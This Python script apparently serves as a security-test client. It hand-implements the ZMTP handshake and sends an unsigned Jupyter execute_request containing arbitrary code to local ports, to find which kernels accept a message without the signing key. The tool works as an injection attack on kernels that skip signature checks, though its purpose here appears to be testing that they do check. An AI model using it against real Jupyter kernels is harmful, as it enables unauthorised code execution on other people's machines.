"""An attacker without the key: sends one unsigned Jupyter `execute_request` to each given TCP port.

Standard library only, so that it runs as another user (`setpriv --reuid=65534 /usr/bin/python3 -c ...`)
with Debian's interpreter, which has no pyzmq: it speaks ZMTP 3.0 (RFC 23, NULL security) as a DEALER
socket by hand. Usage: `python3 zmtp_client.py CODE PORT...`; prints one JSON object: the ports whose peer
completed the handshake and was sent the message, and the ones whose peer refused the handshake.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import uuid
from datetime import UTC, datetime

GREETING = b"\xff" + b"\x00" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\x00") + b"\x00" + b"\x00" * 31


def _frame(body: bytes, more: bool, command: bool = False) -> bytes:
    flags = (0x01 if more else 0) | (0x04 if command else 0)
    if len(body) > 255:
        return bytes([flags | 0x02]) + struct.pack(">Q", len(body)) + body
    return bytes([flags, len(body)]) + body


def _read_exact(sock: socket.socket, n: int) -> bytes:
    data = b""
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            raise ConnectionError("closed by the peer")
        data += chunk
    return data


def _read_frame(sock: socket.socket) -> tuple[int, bytes]:
    flags = _read_exact(sock, 1)[0]
    size = struct.unpack(">Q", _read_exact(sock, 8))[0] if flags & 0x02 else _read_exact(sock, 1)[0]
    return flags, _read_exact(sock, size)


def _ready(socket_type: bytes) -> bytes:
    prop = bytes([len(b"Socket-Type")]) + b"Socket-Type" + struct.pack(">I", len(socket_type)) + socket_type
    return _frame(bytes([len(b"READY")]) + b"READY" + prop, more=False, command=True)


def execute_request(code: str) -> list[bytes]:
    """A Jupyter message as a DEALER sends it, with an empty signature (what a client without the key sends)."""
    header = {"msg_id": uuid.uuid4().hex, "session": uuid.uuid4().hex, "username": "attacker",
              "date": datetime.now(UTC).isoformat(), "msg_type": "execute_request", "version": "5.3"}
    content = {"code": code, "silent": False, "store_history": False, "user_expressions": {},
               "allow_stdin": False, "stop_on_error": True}
    return [b"<IDS|MSG>", b"", json.dumps(header).encode(), b"{}", b"{}", json.dumps(content).encode()]


def send(port: int, frames: list[bytes], timeout: float = 5.0) -> bool:
    """Handshake as a DEALER and send `frames` as one message; False if the peer refused the handshake."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        try:
            sock.sendall(GREETING)
            if _read_exact(sock, 64)[:1] != b"\xff":
                return False
            sock.sendall(_ready(b"DEALER"))
            flags, body = _read_frame(sock)
            if not flags & 0x04 or not body[1:6] == b"READY":
                return False  # an ERROR command: the socket types do not match (e.g. a PUB socket)
            sock.sendall(b"".join(_frame(f, more=i < len(frames) - 1) for i, f in enumerate(frames)))
        except (ConnectionError, TimeoutError, OSError):
            return False
        try:
            sock.shutdown(socket.SHUT_WR)  # a clean close after the data: the peer reads it before the EOF
        except OSError:
            pass  # the peer closed first (a socket that takes nothing from a DEALER)
        return True


def main() -> None:
    code, ports = sys.argv[1], [int(p) for p in sys.argv[2:]]
    sent, refused = [], []
    for port in ports:
        (sent if send(port, execute_request(code)) else refused).append(port)
    print(json.dumps({"sent": sent, "refused": refused}))


if __name__ == "__main__":
    main()
